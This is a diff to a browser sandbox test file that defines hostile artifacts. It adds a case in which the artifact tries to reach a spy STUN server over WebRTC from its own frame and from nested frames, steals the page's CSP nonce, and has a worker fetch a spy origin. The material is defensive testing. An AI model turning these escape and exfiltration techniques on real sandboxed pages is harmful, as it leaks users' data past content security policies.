@@ -3,20 +3,24 @@
  * the parent's DOM, cookies and storage, the top window, popups, and every way of
  * sending a request to a loopback spy server (fetch, XHR, WebSocket, EventSource,
  * beacons, images, CSS, fonts, scripts, frames, prefetch, forms, meta refresh,
- * navigation, workers) — plus script inside an SVG artifact.
+ * navigation, workers, WebRTC's ICE traffic to a STUN server, from the frame itself and
+ * from nested frames) — plus script inside an SVG artifact.
  *
  * Each HTML case runs its attempts and writes what happened into its own document
  * (`<html data-done data-results>`), which the test reads through Chromium: so the
- * test knows the artifact's script did run and that every attempt failed. The spy
- * server must receive nothing.
+ * test knows the artifact's script did run and that every attempt failed. The spies
+ * (an HTTP server, and a UDP listener named as the STUN server) must receive nothing.
  */
 
 /** One hostile artifact. */
 export interface HostileCase {
   name: string;
   kind: "html" | "svg";
-  /** The artifact's content; `SPY` stands for the spy server's origin. */
-  content: (spy: string) => string;
+  /**
+   * The artifact's content, given the spy server's origin and a STUN server URL
+   * (`stun:127.0.0.1:<port>`) whose UDP listener is a spy too.
+   */
+  content: (spy: string, stun: string) => string;
 }
 
 /** The script every HTML case ends with: it records results and marks the document done. */
@@ -36,6 +40,22 @@ document.documentElement.dataset.results = JSON.stringify(results);
 document.documentElement.dataset.done = "1";
 })();
 </script>`;
+}
+
+/** Defines `ice(Ctor)`: a peer connection gathering candidates through `stun`; resolves once it has offered. */
+function iceFunction(stun: string): string {
+  return `const ice = (Ctor) => new Promise((ok, no) => {
+  const pc = new Ctor({ iceServers: [{ urls: "${stun}" }] });
+  pc.createDataChannel("leak");
+  pc.createOffer().then((o) => pc.setLocalDescription(o)).then(() => setTimeout(() => ok("offered"), 600), no);
+});`;
+}
+
+/** One-line script for a nested frame: gathers candidates through `stun` with its own realm's constructor. */
+function iceScript(stun: string): string {
+  return `try { const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${
+    stun.slice("stun:".length)
+  }' }] }); pc.createDataChannel('leak'); pc.createOffer().then((o) => pc.setLocalDescription(o)); } catch (e) {}`;
 }
 
 /** The cases, at least 15. */
@@ -176,6 +196,31 @@ await attempt("worker", () => new Promise((ok, no) => { const w = new Worker("${
 await attempt("blob worker", () => new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${spy}/from-worker')"]))); w.onerror = () => no(new Error("worker error")); setTimeout(() => ok("no error"), 300); }));`),
   },
   {
+    name: "WebRTC to a STUN server, from the frame and from nested frames",
+    kind: "html",
+    // A nested frame's own script needs the nonce the artifact's scripts carry: it reads its own.
+    content: (_spy, stun) =>
+      `<iframe srcdoc="&lt;script>${iceScript(stun)}&lt;/script>"></iframe>` +
+      attempts(`const nonce = document.currentScript && document.currentScript.nonce;
+${iceFunction(stun)}
+await attempt("RTCPeerConnection", () => ice(RTCPeerConnection));
+await attempt("webkitRTCPeerConnection", () => ice(webkitRTCPeerConnection));
+await attempt("nested about:blank frame", () => { const f = document.createElement("iframe"); document.body.append(f); return ice(f.contentWindow.RTCPeerConnection); });
+await attempt("frames[] after innerHTML", () => { const d = document.createElement("div"); d.innerHTML = "<iframe></iframe>"; document.body.append(d); return ice(frames[frames.length - 1].RTCPeerConnection); });
+await attempt("window.open", () => { const w = open("about:blank"); if (!w) throw new Error("null"); return ice(w.RTCPeerConnection); });
+await attempt("read the nonce", () => new Promise((ok, no) => {
+  addEventListener("securitypolicyviolation", (e) => { if (/nonce-/.test(e.originalPolicy)) ok("from a violation"); });
+  const seen = [nonce, ...[...document.scripts].map((s) => s.nonce || s.getAttribute("nonce"))].filter(Boolean);
+  if (seen.length) ok("from a script");
+  if ([...document.querySelectorAll("meta")].some((m) => /nonce/.test(m.content))) ok("from the policy");
+  const s = document.createElement("script"); s.textContent = "1"; document.body.append(s);
+  setTimeout(() => no(new Error("none found")), 300);
+}));
+await attempt("nested srcdoc frame", () => new Promise((ok) => { const f = document.createElement("iframe"); f.srcdoc = "<" + "script nonce='" + nonce + "'>${
+        iceScript(stun)
+      }<" + "/script>"; document.body.append(f); setTimeout(() => ok("inserted"), 1000); }));`),
+  },
+  {
     name: "messages to the parent other than a size",
     kind: "html",
     content: (spy) =>
@@ -218,4 +263,6 @@ export const HARMLESS_IF_SUCCEEDED = new Set([
   "css background",
   // Queued, then refused by connect-src when it is sent (as on an ARTIFACT_ORIGIN frame).
   "sendBeacon",
+  // The nested frame's own script is judged by the STUN spy: a binding request is a leak.
+  "nested srcdoc frame",
 ]);
